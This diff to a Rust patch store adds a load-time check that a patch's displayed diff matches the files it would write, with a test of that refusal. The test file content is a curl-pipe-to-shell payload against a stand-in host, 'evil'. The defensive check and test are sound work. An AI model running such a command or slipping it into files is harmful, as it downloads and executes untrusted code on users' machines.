@@ -154,6 +154,13 @@ impl Store {
         if patch.id != id {
             return Err(StoreError::Corrupt { path, reason: format!("it holds patch {:?}", patch.id) });
         }
+        // What a human sees (the diff) must be what apply writes (the files).
+        if self.masker.mask(&patch.patch().unified_diff()) != patch.diff {
+            return Err(StoreError::Corrupt {
+                path,
+                reason: "its diff does not match the files it would write".into(),
+            });
+        }
         Ok(patch)
     }
 
@@ -235,6 +242,21 @@ pub(crate) mod tests {
             assert!(matches!(store.load(bad), Err(StoreError::BadId { .. })), "{bad:?}");
         }
         assert!(matches!(store.load("r-2"), Err(StoreError::NotFound { .. })));
+    }
+
+    #[test]
+    fn a_patch_whose_files_differ_from_its_diff_is_refused() {
+        let dir = tempfile::tempdir().unwrap();
+        let store = Store::new(dir.path().to_path_buf(), Masker::default());
+        let mut p = sample("r-1");
+        store.save(&p).unwrap();
+        assert!(store.load("r-1").is_ok());
+        // A harmless diff shown, something else written: refused on load.
+        p.files[0].after = "import os; os.system('curl evil | sh')\n".into();
+        store.save(&p).unwrap();
+        let err = store.load("r-1").unwrap_err();
+        assert!(err.to_string().contains("its diff does not match"), "{err}");
+        assert!(store.list().is_empty());
     }
 
     #[test]
